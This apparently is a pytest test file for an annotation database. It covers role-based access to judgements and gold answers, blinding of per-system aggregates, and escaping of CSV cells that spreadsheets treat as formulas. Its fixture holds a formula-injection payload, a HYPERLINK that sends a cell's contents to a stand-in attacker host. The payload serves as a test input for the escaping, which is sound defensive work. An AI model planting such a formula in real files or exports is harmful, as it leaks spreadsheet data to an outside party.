"""Blind by construction: who may read judgements, system identities and gold answers (db/exports.py,
db/summaries.py, db/annotate.py), and CSV exports that a spreadsheet cannot run as formulas."""

import csv
import io

import pytest
from dbkit import judge, new_project

from db import store
from db.errors import PermissionDeniedError

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def judged(factory) -> int:
    """Project (2 judges per item, one gold item): alice and bob each judge two items; alice's reason is a formula."""
    pid = new_project(factory, "blind", annotators_per_item=2, gold_items={"d-0": "sys_a"}, seed=3)
    for user, preference, reason in (
        ("alice", "A", FORMULA),
        ("alice", "B", "+1 fine"),
        ("bob", "A", "-"),
        ("bob", "tie", "@me"),
    ):
        judge(factory, user, pid, preference, consistency_a=4, consistency_b=2, reason=reason)
    return pid


def test_researcher_sees_every_row_with_systems_and_gold(factory, judged):
    with factory() as s:
        rows = store.judgements_frame(s, actor="rita", project_id=judged)
    assert sorted(r["user"] for r in rows) == ["alice", "alice", "bob", "bob"]
    assert {r["system_a"] for r in rows} <= {"sys_a", "sys_b"} and all(r["winner"] for r in rows)


def test_annotator_sees_only_own_rows_without_systems_or_gold(factory, judged):
    with factory() as s:
        rows = store.judgements_frame(s, actor="alice", project_id=judged)
        carol = store.judgements_frame(s, actor="carol", project_id=judged)
    assert [r["user"] for r in rows] == ["alice", "alice"] and carol == []
    for row in rows:
        assert all(row[c] is None for c in ("system_a", "system_b", "winner", "is_gold", "gold_answer"))
    assert not any("sys_" in str(v) for row in rows for v in row.values())


@pytest.mark.parametrize(
    ("call", "minimum"),
    [
        (lambda s, a, p: store.judgements_frame(s, actor=a, project_id=p), "annotator"),
        (lambda s, a, p: store.export_preferences(s, actor=a, project_id=p), "researcher"),
        (lambda s, a, p: store.list_disagreements(s, actor=a, project_id=p), "researcher"),
        (
            lambda s, a, p: store.export_judgements_table(s, actor=a, project_id=p, path="/nonexistent/x.csv"),
            "researcher",
        ),
    ],
)
def test_row_level_calls_refuse_lower_roles(factory, judged, call, minimum):
    lower = {"annotator": ["vic"], "researcher": ["vic", "alice"]}[minimum]
    with factory() as s:
        for actor in lower:
            with pytest.raises(PermissionDeniedError, match=rf"'{actor}' has role '\w+'; this needs '{minimum}'"):
                call(s, actor, judged)


def test_viewer_gets_aggregates_that_name_no_annotator_or_item(factory, judged):
    with factory() as s:
        counts = store.outcome_counts(s, actor="vic", project_id=judged)
        means = store.criterion_means(s, actor="vic", project_id=judged)
        rows = store.judgements_frame(s, actor="rita", project_id=judged)
    assert sum(c["n"] for c in counts) == 4 and all(
        set(c) == {"system_a", "system_b", "preference", "n"} for c in counts
    )
    by_pair = {}
    for r in rows:
        key = (r["system_a"], r["system_b"], r["preference"])
        by_pair[key] = by_pair.get(key, 0) + 1
    assert {(c["system_a"], c["system_b"], c["preference"]): c["n"] for c in counts} == by_pair
    consistency = {m["system"]: m for m in means if m["criterion"] == "consistency"}
    expected = {}
    for r in rows:
        for side, value in (("a", 4), ("b", 2)):
            expected.setdefault(r[f"system_{side}"], []).append(value)
    assert {k: (v["mean"], v["n"]) for k, v in consistency.items()} == {
        k: (sum(v) / len(v), len(v)) for k, v in expected.items()
    }
    assert all(m["criterion"] != "fluency" for m in means)  # never answered: no mean, not a 0


def test_csv_export_escapes_formula_cells(factory, judged, tmp_path):
    with factory.begin() as s:
        path = store.export_judgements_table(s, actor="rita", project_id=judged, path=tmp_path / "j.csv")
        text = store.judgements_csv(store.judgements_frame(s, actor="rita", project_id=judged))
    assert path.read_bytes().decode("utf-8") == text  # CRLF line ends (RFC 4180), kept as written
    reasons = sorted(r["reason"] for r in csv.DictReader(io.StringIO(text)))
    assert reasons == sorted(["'" + FORMULA, "'+1 fine", "'-", "'@me"])
    assert all(
        not cell.startswith(("=", "+", "-", "@"))
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if not cell.lstrip("-").replace(".", "").isdigit()
    )


def _counts(factory, actor: str, project_id: int) -> dict:
    with factory() as s:
        rows = store.outcome_counts(s, actor=actor, project_id=project_id)
    return {(c["system_a"], c["system_b"], c["preference"]): c["n"] for c in rows}


def test_annotator_with_items_left_cannot_probe_system_aggregates(factory):
    """The issue's probe: Tie + rate only reply A, then compare per-system aggregates before and after. While alice
    has items to judge the store refuses them; once she has none left, they are hers like everyone's."""
    pid = new_project(factory, "probe", annotators_per_item=2, seed=1)
    judge(factory, "bob", pid, "A", consistency_a=5, consistency_b=1)
    calls = (store.outcome_counts, store.criterion_means)
    with factory() as s:
        assert store.may_see_system_aggregates(s, actor="alice", project_id=pid) is False
        for call in calls:
            with pytest.raises(PermissionDeniedError, match="'alice' still has items to judge in project"):
                call(s, actor="alice", project_id=pid)
    before = _counts(factory, "vic", pid)  # viewers never judge: they see the aggregates
    judge(factory, "alice", pid, "tie", consistency_a=4)
    with factory() as s:
        for call in calls:
            with pytest.raises(PermissionDeniedError, match="blind annotation"):
                call(s, actor="alice", project_id=pid)
    after = _counts(factory, "rita", pid)
    assert sum(after.values()) == sum(before.values()) + 1  # the aggregate that would have told her moved
    while True:  # alice judges every item left to her
        with factory.begin() as s:
            item = store.next_item(s, actor="alice", project_id=pid)
            if item is None:
                break
            store.record_judgement(s, actor="alice", item_id=item["item_id"], preference="A")
    with factory() as s:
        assert store.may_see_system_aggregates(s, actor="alice", project_id=pid) is True
    assert _counts(factory, "alice", pid) == _counts(factory, "vic", pid)
    assert sum(_counts(factory, "alice", pid).values()) == 1 + 6  # bob's one and alice's six (6 dialogues)


def test_annotator_without_open_items_may_see_aggregates(factory):
    """carol never judged, but every slot of the one-judge project is taken: nothing left to keep blind."""
    pid = new_project(factory, "full", annotators_per_item=1, seed=2)
    for _ in range(6):
        judge(factory, "bob", pid, "B")
    with factory() as s:
        assert store.may_see_system_aggregates(s, actor="carol", project_id=pid) is True
        assert store.may_see_system_aggregates(s, actor="alice", project_id=pid) is True
        assert sum(c["n"] for c in store.outcome_counts(s, actor="carol", project_id=pid)) == 6
